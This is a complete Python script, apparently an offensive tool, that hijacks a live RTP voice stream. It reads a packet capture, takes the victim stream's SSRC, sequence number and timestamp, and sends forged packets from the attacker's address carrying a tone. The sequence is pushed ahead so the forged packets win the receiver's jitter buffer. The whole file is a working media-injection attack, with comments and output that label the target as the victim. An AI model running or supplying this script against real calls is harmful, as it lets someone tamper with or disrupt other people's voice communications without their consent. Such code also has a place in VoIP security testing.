#!/usr/bin/env python3
"""Inject RTP into a running stream: read the capture with scapy, take the last RTP packet sent to DST_IP:DST_PORT
by its legitimate sender, and send COUNT packets (20 ms apart) with the same SSRC, continuing its sequence number
and timestamp (+ a jump of 100 packets so the injected ones win the jitter buffer), from the attacker's own
address SRC_IP:SRC_PORT, with a 1 kHz u-law tone (different audio).

Usage: inject_rtp.py CAPTURE SRC_IP SRC_PORT DST_IP DST_PORT [COUNT]
"""
import math
import socket
import struct
import sys
import time

from scapy.all import IP, UDP, rdpcap  # type: ignore

cap, src, sport, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
count = int(sys.argv[6]) if len(sys.argv) > 6 else 50
last = None
for p in rdpcap(cap):
    if UDP in p and p[IP].dst == dst and p[UDP].dport == dport and p[IP].src != src:
        last = bytes(p[UDP].payload)
if last is None or len(last) < 12 or last[0] >> 6 != 2:
    sys.exit("no RTP to the target in the capture yet")
_, pt, seq, ts, ssrc = struct.unpack("!BBHII", last[:12])
pt &= 0x7F
print(f"victim stream: SSRC {ssrc:#010x} PT {pt} last seq {seq} ts {ts}")
tone = bytes(0xFF if math.sin(2 * math.pi * 1000 * k / 8000) >= 0 else 0x7F for k in range(160))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((src, sport))
for i in range(count):
    seq_i = (seq + 100 + i) & 0xFFFF
    ts_i = (ts + 160 * (100 + i)) & 0xFFFFFFFF
    s.sendto(struct.pack("!BBHII", 0x80, pt, seq_i, ts_i, ssrc) + tone, (dst, dport))
    time.sleep(0.02)
print(f"injected {count} packets from {src}:{sport} to {dst}:{dport} with SSRC {ssrc:#010x}")
